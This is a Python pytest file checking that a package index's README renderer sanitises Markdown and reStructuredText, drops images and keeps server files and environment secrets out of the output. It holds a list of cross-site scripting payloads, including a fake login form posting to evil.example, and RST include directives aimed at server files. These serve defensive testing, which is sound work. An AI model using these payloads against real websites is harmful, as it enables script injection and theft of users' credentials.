"""Descriptions are strangers' texts: they are shown, and can do nothing."""

import os
import re
import signal
import subprocess
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from rewheel.server.pages.readme import ReadmeRenderer
from rewheel.server.pages.readme.cleaning import clean
from rewheel.server.pages.readme.markup import Form, form_of

MARKDOWN = "text/markdown; charset=UTF-8; variant=GFM"


@pytest.fixture(scope="module")
def renderer():
    made = ReadmeRenderer(timeout=20)
    yield made
    made.close()


FORBIDDEN = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "img", "svg"}
FORBIDDEN |= {"math", "link", "meta", "base", "video", "audio", "source", "template"}


class Inspector(HTMLParser):
    """Finds whatever could run, load or leave the page."""

    def __init__(self):
        super().__init__()
        self.tags, self.problems = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag in FORBIDDEN:
            self.problems.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {
                "style",
                "srcdoc",
                "src",
                "srcset",
                "action",
                "formaction",
                "background",
            }:
                self.problems.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?://|mailto:|#readme-)", value or "", re.IGNORECASE):
                self.problems.append(f"{tag} href {value}")
            if name == "id" and not value.startswith("readme-"):
                self.problems.append(f"id {value}")


def inspect(markup):
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector


def test_markdown_gets_tables_code_and_links_with_headings_below_ours(renderer):
    text = (
        "# Foo\n\nSee [docs](https://example.org/docs) and `code`.\n\n"
        "| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n```py\nx = '<b>'\n```\n"
    )
    found = renderer.render(text, MARKDOWN)
    assert found.note == ""
    assert "<h3>Foo</h3>" in found.html
    assert '<a href="https://example.org/docs" rel="nofollow noopener noreferrer">docs</a>' in found.html
    assert "<td>1</td>" in found.html
    assert "<s>2</s>" in found.html
    assert "x = '&lt;b&gt;'" in found.html


def test_commonmark_has_no_tables(renderer):
    found = renderer.render("| a |\n|---|\n| 1 |\n", "text/markdown; variant=CommonMark")
    assert "<table>" not in found.html


def test_restructured_text_is_the_form_of_old(renderer):
    text = (
        "Title\n=====\n\nSome *words*, `a link <https://example.org/>`_.\n\n"
        "Part\n----\n\n.. code:: python\n\n   x = 1\n"
    )
    for content_type in ("", "text/x-rst; charset=UTF-8"):
        found = renderer.render(text, content_type)
        assert "<h3>Title</h3>" in found.html
        assert "<h4>Part</h4>" in found.html
        assert 'href="https://example.org/"' in found.html
        assert "<em>words</em>" in found.html


def test_plain_text_and_unknown_forms_are_shown_as_written(renderer):
    for content_type in ("text/plain", "application/evil"):
        found = renderer.render("a < b\n  *c*", content_type)
        assert found.html == '<pre class="plain" tabindex="0">a &lt; b\n  *c*</pre>'


def test_forms_are_told_apart():
    assert form_of("text/markdown; charset=UTF-8; variant=GFM") is Form.MARKDOWN
    assert form_of("TEXT/X-RST") is Form.RST
    assert form_of("") is Form.RST
    assert form_of("text/html") is Form.PLAIN


def test_broken_restructured_text_is_shown_as_written(renderer):
    found = renderer.render("Title\n=====\n\n.. nonsense:: x\n\n`unclosed", "text/x-rst")
    assert "does not follow the rules" in found.note
    assert "`unclosed" in found.html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#x09;script:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z](data:text/html,x)",
    "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg>)",
    "[x]: javascript:alert(1)\n[x]",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=token><button>log in</button></form>",
    "<style>body{display:none}</style><p style='position:fixed;inset:0'>x</p>",
    "<base href=https://evil.example><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id=content><a id=q name=q href=#content>x</a>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="https://example.org/" onclick="alert(1)" target="_top">x</a>',
    "<div class='hero banner'>x</div>",
    "<x-custom onfocus=alert(1) autofocus tabindex=1>x</x-custom>",
    "`x <javascript:alert(1)>`_",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n",
    ".. raw:: html\n\n   <script>alert(1)</script>\n",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`\n",
    ".. |x| raw:: html\n\n   <img src=x onerror=alert(1)>\n\n|x|\n",
    ".. _x: javascript:alert(1)\n\nx_\n",
    ".. meta::\n   :http-equiv=refresh: 0\n",
    ".. class:: hero\n\ntext\n",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("content_type", [MARKDOWN, "text/x-rst", "text/plain"])
def test_nothing_runs_loads_or_pretends(renderer, text, content_type):
    assert inspect(renderer.render(text, content_type).html).problems == []


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<", ">", '"', "'", "&", "<!--", "-->", "<a ", "</p>", "\0", "\u2028", "=", " x"]
        ),
        max_size=8,
    )
)
def test_no_mixture_of_tricks_gets_through(pieces):
    assert inspect(clean("".join(pieces))).problems == []


def test_files_of_the_server_are_never_read(renderer, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the-secret", "utf-8")
    for text in (
        f".. include:: {secret}\n",
        f".. literalinclude:: {secret}\n",
        f".. csv-table::\n   :file: {secret}\n",
        f".. csv-table::\n   :url: file://{secret}\n",
        f".. code:: text\n   :file: {secret}\n",
        f".. raw:: html\n   :file: {secret}\n",
        f".. image:: {secret}\n   :loading: embed\n",
    ):
        found = renderer.render(text, "text/x-rst")
        assert "the-secret" not in found.html


def test_images_are_links_so_that_nobody_is_told_who_reads(renderer):
    found = renderer.render(
        "![a badge](https://badge.example/x.svg) [![b](https://badge.example/y.svg)](https://ci.example/)",
        MARKDOWN,
    ).html
    assert '<a href="https://badge.example/x.svg" rel="nofollow noopener noreferrer">a badge</a>' in found
    assert '<a href="https://ci.example/" rel="nofollow noopener noreferrer">b</a>' in found
    assert "y.svg" not in found


def test_places_in_a_description_never_are_those_of_our_page(renderer):
    found = renderer.render('<h2 id="files">Files</h2>\n\n[there](#files)', MARKDOWN).html
    assert '<h4 id="readme-files">' in found
    assert 'href="#readme-files"' in found


def test_what_is_long_is_cut(renderer):
    found = renderer.render("x" * 600_000, MARKDOWN)
    assert "very long" in found.note
    assert len(found.html) < 600_000


def test_what_takes_too_long_is_shown_as_written_and_costs_nobody_else():
    renderer = ReadmeRenderer(timeout=0.5)
    try:
        renderer.render("warm", MARKDOWN)
        found = renderer.render("<b>" * 160_000, MARKDOWN)
        assert "could not be rendered" in found.note
        assert found.html.startswith('<pre class="plain">&lt;b&gt;')
    finally:
        renderer.close()


def test_a_process_that_was_ended_is_started_again():
    renderer = ReadmeRenderer(timeout=20)
    try:
        assert renderer.render("# a", MARKDOWN).note == ""
        os.kill(renderer._process._process.pid, signal.SIGKILL)
        assert "<h3>b</h3>" in renderer.render("# b", MARKDOWN).html
    finally:
        renderer.close()


def test_settings_and_secrets_of_the_server_stay_out_of_the_process(renderer, monkeypatch):
    monkeypatch.setenv("REWHEEL_ADMIN_TOKEN", "the-secret")
    made = ReadmeRenderer(timeout=20)
    try:
        made.render("x", MARKDOWN)
        environ = subprocess.run(
            ["cat", f"/proc/{made._process._process.pid}/environ"], capture_output=True, check=False
        ).stdout
        assert b"the-secret" not in environ
    finally:
        made.close()


def test_the_same_text_is_rendered_once(renderer):
    first = renderer.render("# once", MARKDOWN)
    assert renderer.render("# once", MARKDOWN) is first
    assert renderer.render("  \n", MARKDOWN).html == ""
